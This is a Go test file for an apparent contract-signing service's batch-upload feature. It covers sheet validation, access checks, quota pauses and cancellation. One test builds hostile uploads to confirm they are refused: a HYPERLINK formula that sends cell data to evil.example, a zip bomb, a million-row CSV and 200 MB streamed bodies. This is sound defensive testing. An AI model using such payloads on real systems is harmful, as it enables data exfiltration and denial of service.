package main

import (
	"archive/zip"
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"signet/commands"
	"signet/domain/batch"
	"signet/domain/contract"
	"signet/domain/enterprise"
	"signet/domain/event"
	"signet/infra/clock"
	"signet/infra/eventstore"
)

// runBatches runs the app's batch runner until the test ends.
func (e *testEnv) runBatches() {
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	r := e.app.batchRunner()
	r.Interval = 100 * time.Millisecond
	go func() {
		defer close(done)
		r.Run(ctx)
	}()
	e.t.Cleanup(func() {
		cancel()
		<-done
	})
}

func (e *testEnv) grant(enterpriseID string, n int) {
	e.t.Helper()
	h := commands.NewGrantEnterpriseQuotaHandler(commands.Deps{Events: e.app.store, Clock: clock.Real{}, Logger: quietLogger()})
	if _, err := h.Handle(context.Background(), commands.GrantEnterpriseQuota{EnterpriseID: enterpriseID, Amount: n, Reason: "test", GrantedBy: "staff"}); err != nil {
		e.t.Fatal(err)
	}
}

// sampleSheet downloads the template's sample.
func (v *vclient) sampleSheet(templateID string) *excelize.File {
	v.t.Helper()
	r := v.call(http.MethodGet, "/api/v1/templates/"+templateID+"/batch-sample", nil, http.StatusOK)
	if ct := r.Header.Get("Content-Type"); ct != commands.XLSXMediaType {
		v.t.Fatalf("sample's Content-Type %q", ct)
	}
	_, params, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
	if err != nil || params["filename"] != "房屋租赁合同-批量发送.xlsx" {
		v.t.Fatalf("sample's Content-Disposition %q: %v %v", r.Header.Get("Content-Disposition"), params, err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		v.t.Fatal(err)
	}
	return f
}

// fill types rows into the sample below its hint row, as a user would:
// phone numbers and amounts as numbers, the deadline as a date.
func fill(t testing.TB, f *excelize.File, rows []map[string]any) []byte {
	t.Helper()
	sh := f.GetSheetName(0)
	got, err := f.GetRows(sh)
	if err != nil || len(got) < 2 {
		t.Fatalf("sample rows %v: %v", got, err)
	}
	col := map[string]int{}
	for i, h := range got[0] {
		col[strings.TrimPrefix(h, "*")] = i + 1
	}
	for i, r := range rows {
		for h, v := range r {
			c, ok := col[h]
			if !ok {
				t.Fatalf("the sample has no column %s: %q", h, got[0])
			}
			cell, _ := excelize.CoordinatesToCellName(c, i+3)
			if err := f.SetCellValue(sh, cell, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	buf, err := f.WriteToBuffer()
	if err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func rentRow(i int, boss string, deadline time.Time) map[string]any {
	return map[string]any{"乙方姓名": "林某某", "乙方手机号/邮箱": 13512340000 + i, "甲方企业名称": entName, "甲方经办人姓名": "井然",
		"甲方手机号/邮箱": boss, "月租金": 3000 + i, "签署截止日期": deadline}
}

// uploadSheet posts a sheet as the form the API takes.
func (v *vclient) uploadSheet(templateID, enterpriseID, name string, data []byte, want int) response {
	v.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	mw.WriteField("template_id", templateID)
	if enterpriseID != "" {
		mw.WriteField("enterprise_id", enterpriseID)
	}
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(data)
	mw.Close()
	r := v.must(http.MethodPost, "/api/v1/batches", body.String(), "Authorization", "Bearer "+v.token, "Content-Type", mw.FormDataContentType())
	if p := r.Header.Get("Signet-Position"); p != "" {
		v.pos = p
	}
	if r.Status != want {
		v.t.Fatalf("upload %s: %d, want %d: %s", name, r.Status, want, r.Body)
	}
	return r
}

type batchReply struct {
	ID        string           `json:"id"`
	Total     int              `json:"total"`
	Valid     int              `json:"valid"`
	Invalid   int              `json:"invalid"`
	QuotaLeft int              `json:"quota_left"`
	Errors    []batch.RowError `json:"errors"`
	Links     map[string]string
}

type progressReply struct {
	ID        string  `json:"id"`
	Status    string  `json:"status"`
	Total     int     `json:"total"`
	Sent      int     `json:"sent"`
	Failed    int     `json:"failed"`
	Remaining int     `json:"remaining"`
	Rate      float64 `json:"rate"`
	Pause     *struct {
		Reason  string `json:"reason"`
		Message string `json:"message"`
	} `json:"pause"`
	Links map[string]string `json:"links"`
}

func (v *vclient) progress(id string) progressReply {
	v.t.Helper()
	var p progressReply
	v.call(http.MethodGet, "/api/v1/batches/"+id, nil, http.StatusOK).json(v.t, &p)
	return p
}

func (v *vclient) waitBatch(id, status string) progressReply {
	v.t.Helper()
	deadline := time.Now().Add(45 * time.Second)
	for {
		p := v.progress(id)
		if p.Status == status {
			return p
		}
		if time.Now().After(deadline) {
			v.t.Fatalf("batch %s: %+v, want %s", id, p, status)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// batchContracts lists the contracts a batch recorded, by row.
func batchContracts(t testing.TB, store eventstore.Store, id string) map[int]string {
	t.Helper()
	envs, err := store.ReadStream(context.Background(), batch.StreamOf(id), 1, event.Forwards, 0)
	if err != nil {
		t.Fatal(err)
	}
	out := map[int]string{}
	for _, env := range envs {
		e, err := batch.DecodeEnvelope(env)
		if err != nil {
			t.Fatal(err)
		}
		if s, ok := e.(batch.RowSent); ok {
			if _, twice := out[s.Index]; twice {
				t.Fatalf("row %d recorded twice", s.Index)
			}
			out[s.Index] = s.ContractID
		}
	}
	return out
}

// contractCounts counts, over the whole log, each contract's creations,
// each number's reservations and each contract's quota spends.
func contractCounts(t testing.TB, store eventstore.Store) (created, numbers, spends map[string]int) {
	t.Helper()
	created, numbers, spends = map[string]int{}, map[string]int{}, map[string]int{}
	for after := uint64(0); ; {
		envs, err := store.ReadAll(context.Background(), after, 2000)
		if err != nil {
			t.Fatal(err)
		}
		if len(envs) == 0 {
			return
		}
		for _, env := range envs {
			after = env.Position
			switch env.Type {
			case contract.TypeContractCreated:
				e, err := contract.DecodeEnvelope(env)
				if err != nil {
					t.Fatal(err)
				}
				created[e.(contract.ContractCreated).ContractID]++
			case contract.TypeContractNumberReserved:
				numbers[env.Stream]++
			case enterprise.TypeContractQuotaUsed:
				e, err := enterprise.DecodeEnvelope(env)
				if err != nil {
					t.Fatal(err)
				}
				spends[e.(enterprise.ContractQuotaUsed).ContractID]++
			}
		}
	}
}

func TestBatchFromTheSampleOverHTTP(t *testing.T) {
	e := start(t, testConfig(t), roles{true, true, true}, nil)
	e.runBatches()
	boss, ent := verifiedEnterprise(t, e, "13800138301", 31)
	tpl := boss.template(ent, false)
	deadline := time.Now().AddDate(0, 1, 0)

	f := boss.sampleSheet(tpl.id)
	rows := []map[string]any{rentRow(1, boss.login, deadline), rentRow(2, boss.login, deadline), rentRow(3, boss.login, deadline), rentRow(4, boss.login, deadline)}
	bad1 := rentRow(5, boss.login, deadline)
	bad1["月租金"] = "三千"
	bad2 := rentRow(6, boss.login, deadline)
	bad2["乙方手机号/邮箱"] = "12345"
	rows = append(rows, bad1, bad2)
	var up batchReply
	boss.uploadSheet(tpl.id, ent, "租赁批量.xlsx", fill(t, f, rows), http.StatusCreated).json(t, &up)
	if up.Total != 6 || up.Valid != 4 || up.Invalid != 2 || up.QuotaLeft != 10 || len(up.Errors) != 2 ||
		up.Errors[0] != (batch.RowError{Line: 7, Column: "月租金", Code: "invalid_number", Message: up.Errors[0].Message}) ||
		up.Errors[1].Line != 8 || up.Errors[1].Column != "乙方手机号/邮箱" || up.Errors[1].Code != "invalid_contact" {
		t.Fatalf("upload: %+v", up)
	}

	// The error copy names the bad rows' cells in its first column.
	r := boss.call(http.MethodGet, up.Links["error_sheet"], nil, http.StatusOK)
	ef, err := excelize.OpenReader(bytes.NewReader(r.Body))
	if err != nil {
		t.Fatal(err)
	}
	got, _ := ef.GetRows(ef.GetSheetName(0))
	if len(got) < 8 || !strings.HasPrefix(got[0][0], "错误说明") || !strings.Contains(got[6][0], "月租金") || !strings.Contains(got[7][0], "乙方手机号/邮箱") || got[2][0] != "" {
		t.Fatalf("error copy: %q", got)
	}
	var report struct{ Errors []batch.RowError }
	boss.call(http.MethodGet, up.Links["report"], nil, http.StatusOK).json(t, &report)
	if len(report.Errors) != 2 {
		t.Fatalf("report %+v", report)
	}

	// Strangers see and do nothing.
	stranger := newUser(t, e, "13800138302")
	for _, c := range []struct{ method, path string }{
		{http.MethodGet, "/api/v1/batches/" + up.ID}, {http.MethodGet, up.Links["report"]}, {http.MethodGet, up.Links["error_sheet"]},
		{http.MethodPost, "/api/v1/batches/" + up.ID + "/cancellation"},
	} {
		if r := stranger.call(c.method, c.path, nil, http.StatusForbidden); r.errorCode() != "not_batch_sender" {
			t.Fatalf("%s %s: %s", c.method, c.path, r.Body)
		}
	}
	stranger.call(http.MethodGet, "/api/v1/batches/0190f0a4-0000-7000-8000-000000000077", nil, http.StatusNotFound)

	if r := boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/start", map[string]string{"rows": "all"}, http.StatusUnprocessableEntity); r.errorCode() != "sheet_has_errors" {
		t.Fatalf("start all: %s", r.Body)
	}
	boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/start", map[string]string{"rows": "valid"}, http.StatusOK)
	p := boss.waitBatch(up.ID, "completed")
	if p.Total != 4 || p.Sent != 4 || p.Failed != 0 || p.Remaining != 0 {
		t.Fatalf("completed: %+v", p)
	}
	sent := batchContracts(t, e.app.store, up.ID)
	for i := range 4 {
		id := sent[i]
		if evs := e.contractEvents(id); strings.Join(evs, ",") != "ContractCreated,ContractSent" {
			t.Fatalf("row %d's contract %s: %v", i, id, evs)
		}
		c, _ := boss.contract(id)
		if c.Title != "房屋租赁合同" || c.Status != "signing" {
			t.Fatalf("row %d's contract: %+v", i, c)
		}
	}
	if msg := lastSMS(t, e.c, "13512340003"); !strings.Contains(msg, "邀请您签署") {
		t.Fatalf("the third row's person was told %q", msg)
	}
	var list []progressReply
	boss.call(http.MethodGet, "/api/v1/batches", nil, http.StatusOK).json(t, &list)
	if len(list) != 1 || list[0].ID != up.ID {
		t.Fatalf("list %+v", list)
	}
	// The CLI reads the batch from the event store, once or until it ends.
	for _, watch := range []string{"--watch=false", "--watch"} {
		var out bytes.Buffer
		if err := run(context.Background(), []string{"batch", "status", up.ID, "--data", e.cfg.Data, watch}, &out, io.Discard); err != nil {
			t.Fatalf("batch status: %v", err)
		}
		if !strings.Contains(out.String(), "租赁批量.xlsx, 6 rows: 4 valid, 2 bad): completed · 4 sent, 0 failed, 0 left") {
			t.Fatalf("batch status %s printed %q", watch, out.String())
		}
	}
}

// A CSV in UTF-8 with a byte order mark, from a spreadsheet program's
// "CSV UTF-8": all rows invalid is a 422 with the report.
func TestBatchCSVWithNoValidRow(t *testing.T) {
	e := start(t, testConfig(t), roles{true, true, true}, nil)
	boss, ent := verifiedEnterprise(t, e, "13800138311", 32)
	tpl := boss.template(ent, false)
	csv := "\ufeff合同标题,乙方姓名,乙方手机号/邮箱,甲方企业名称,甲方经办人姓名,甲方手机号/邮箱,月租金,签署截止日期\r\n" +
		",林某某,13512340001,杭州某公司,井然,13800138311,3500,2020-01-01\r\n"
	var up struct {
		Error  struct{ Code string }
		ID     string
		Errors []batch.RowError
		Links  map[string]string
	}
	boss.uploadSheet(tpl.id, ent, "a.csv", []byte(csv), http.StatusUnprocessableEntity).json(t, &up)
	if up.Error.Code != "no_valid_rows" || up.ID == "" || len(up.Errors) != 1 || up.Errors[0].Code != "deadline_passed" || up.Links["error_sheet"] == "" {
		t.Fatalf("%+v", up)
	}
	if r := boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/start", map[string]string{"rows": "valid"}, http.StatusUnprocessableEntity); r.errorCode() != "no_valid_rows" {
		t.Fatalf("start: %s", r.Body)
	}
}

func TestBatchQuotaPauseResumeAndCancel(t *testing.T) {
	e := start(t, testConfig(t), roles{true, true, true}, nil)
	e.runBatches()
	boss, ent := verifiedEnterprise(t, e, "13800138321", 33)
	tpl := boss.template(ent, false)
	deadline := time.Now().AddDate(0, 1, 0)
	var rows []map[string]any
	for i := range 14 {
		rows = append(rows, rentRow(i, boss.login, deadline))
	}
	var up batchReply
	boss.uploadSheet(tpl.id, ent, "十四份.xlsx", fill(t, boss.sampleSheet(tpl.id), rows), http.StatusCreated).json(t, &up)
	boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/start", map[string]string{"rows": "valid"}, http.StatusOK)
	// 10 free contracts of a verified enterprise: the batch pauses after 10.
	p := boss.waitBatch(up.ID, "paused")
	if p.Sent != 10 || p.Remaining != 4 || p.Pause == nil || p.Pause.Reason != "quota_exhausted" || p.Links["resumption"] == "" {
		t.Fatalf("paused: %+v", p)
	}
	if r := boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/resumption", nil, http.StatusUnprocessableEntity); r.errorCode() != "quota_exhausted" {
		t.Fatalf("resume without quota: %s", r.Body)
	}
	e.grant(ent, 400)
	boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/resumption", nil, http.StatusOK)
	boss.waitBatch(up.ID, "completed")
	if sent := batchContracts(t, e.app.store, up.ID); len(sent) != 14 {
		t.Fatalf("%d contracts, want 14", len(sent))
	}

	// Cancelling a big batch at once: rows in flight finish, no other is sent.
	rows = rows[:0]
	for i := range 300 {
		rows = append(rows, rentRow(100+i, boss.login, deadline))
	}
	boss.uploadSheet(tpl.id, ent, "三百份.xlsx", fill(t, boss.sampleSheet(tpl.id), rows), http.StatusCreated).json(t, &up)
	boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/start", map[string]string{"rows": "valid"}, http.StatusOK)
	for boss.progress(up.ID).Sent < 5 {
		time.Sleep(10 * time.Millisecond)
	}
	r := boss.call(http.MethodPost, "/api/v1/batches/"+up.ID+"/cancellation", nil, http.StatusOK)
	cancelledAt := r.Header.Get("Signet-Position")
	time.Sleep(time.Second)
	created, _, _ := contractCounts(t, e.app.store)
	time.Sleep(500 * time.Millisecond)
	if again, _, _ := contractCounts(t, e.app.store); len(again) != len(created) {
		t.Fatalf("%d contracts a second after the cancellation, %d half a second later", len(created), len(again))
	}
	sent := batchContracts(t, e.app.store, up.ID)
	if len(sent) >= 300 || len(created) != 14+len(sent) {
		t.Fatalf("%d rows recorded, %d contracts in all after cancelling at %s", len(sent), len(created), cancelledAt)
	}
	if p := boss.progress(up.ID); p.Status != "cancelled" || p.Sent != len(sent) {
		t.Fatalf("cancelled: %+v, %d recorded", p, len(sent))
	}
}

// Uploads that are not sheets, bombs, formulas, a million rows or 200 MB
// are refused quickly with a clear error, reading no more than the limit.
func TestBatchMaliciousUploads(t *testing.T) {
	e := start(t, testConfig(t), roles{true, true, true}, nil)
	boss, ent := verifiedEnterprise(t, e, "13800138331", 34)
	tpl := boss.template(ent, false)

	formula := excelize.NewFile()
	formula.SetCellValue("Sheet1", "A1", "合同标题")
	formula.SetCellFormula("Sheet1", "A2", `HYPERLINK("http://evil.example/"&B2,"click")`)
	fb, _ := formula.WriteToBuffer()

	var bomb bytes.Buffer
	zw := zip.NewWriter(&bomb)
	for _, name := range []string{"[Content_Types].xml", "xl/workbook.xml"} {
		w, _ := zw.Create(name)
		w.Write([]byte("<x/>"))
	}
	w, _ := zw.Create("xl/worksheets/sheet1.xml")
	zeros := make([]byte, 1<<20)
	for range 210 {
		w.Write(zeros)
	}
	zw.Close()

	var million strings.Builder
	million.WriteString("合同标题,乙方姓名\n")
	for range 1_000_000 {
		million.WriteString("a\n")
	}

	for _, c := range []struct {
		name   string
		data   []byte
		status int
		code   string
	}{
		{"photo.png", photo(t, 1), http.StatusUnsupportedMediaType, "not_a_sheet"},
		{"bomb.xlsx", bomb.Bytes(), http.StatusRequestEntityTooLarge, "sheet_too_large"},
		{"formula.xlsx", fb.Bytes(), http.StatusBadRequest, "formula_cell"},
		{"million.csv", []byte(million.String()), http.StatusRequestEntityTooLarge, "too_many_rows"},
	} {
		t.Run(c.name, func(t *testing.T) {
			began := time.Now()
			if r := boss.uploadSheet(tpl.id, ent, c.name, c.data, c.status); r.errorCode() != c.code {
				t.Fatalf("%s: %s", c.name, r.Body)
			}
			if took := time.Since(began); took > 5*time.Second {
				t.Fatalf("%s refused after %s", c.name, took)
			}
		})
	}

	// 200 MB declared: refused before the body is read.
	host := strings.TrimPrefix(e.srv.URL, "http://")
	t.Run("200 MB declared", func(t *testing.T) {
		status, body := rawUpload(t, host, boss.token, tpl.id, ent, 200<<20, 1<<20)
		if status != http.StatusRequestEntityTooLarge || !strings.Contains(body, "sheet_too_large") {
			t.Fatalf("%d %s", status, body)
		}
	})
	// 200 MB streamed without a length: refused once the limit is passed,
	// never held in memory.
	t.Run("200 MB streamed", func(t *testing.T) {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		status, body := rawUpload(t, host, boss.token, tpl.id, ent, -1, 200<<20)
		runtime.ReadMemStats(&after)
		if status != http.StatusRequestEntityTooLarge || !strings.Contains(body, "sheet_too_large") {
			t.Fatalf("%d %s", status, body)
		}
		if grew := after.TotalAlloc - before.TotalAlloc; grew > 150<<20 {
			t.Fatalf("the server allocated %d MB for a refused upload", grew>>20)
		}
	})
}

// rawUpload sends a form whose file part is n bytes of zeros, declaring
// length as Content-Length (-1: chunked), and reads the answer while
// writing.
func rawUpload(t *testing.T, host, token, templateID, enterpriseID string, length int64, n int) (int, string) {
	t.Helper()
	conn, err := net.Dial("tcp", host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	head := "--b\r\nContent-Disposition: form-data; name=\"template_id\"\r\n\r\n" + templateID +
		"\r\n--b\r\nContent-Disposition: form-data; name=\"enterprise_id\"\r\n\r\n" + enterpriseID +
		"\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.xlsx\"\r\n\r\n"
	req := "POST /api/v1/batches HTTP/1.1\r\nHost: " + host + "\r\nAuthorization: Bearer " + token + "\r\nContent-Type: multipart/form-data; boundary=b\r\n"
	if length >= 0 {
		req += fmt.Sprintf("Content-Length: %d\r\n\r\n", length)
	} else {
		req += "Transfer-Encoding: chunked\r\n\r\n"
	}
	var wg sync.WaitGroup
	wg.Go(func() {
		bw := bufio.NewWriter(conn)
		bw.WriteString(req)
		chunk := func(p []byte) {
			if length < 0 {
				fmt.Fprintf(bw, "%x\r\n", len(p))
				bw.Write(p)
				bw.WriteString("\r\n")
			} else {
				bw.Write(p)
			}
		}
		chunk([]byte(head))
		zeros := make([]byte, 64<<10)
		for sent := 0; sent < n; sent += len(zeros) {
			chunk(zeros)
			if bw.Flush() != nil {
				return // the server has answered and closed
			}
		}
	})
	defer wg.Wait()
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	conn.Close()
	return res.StatusCode, string(body)
}
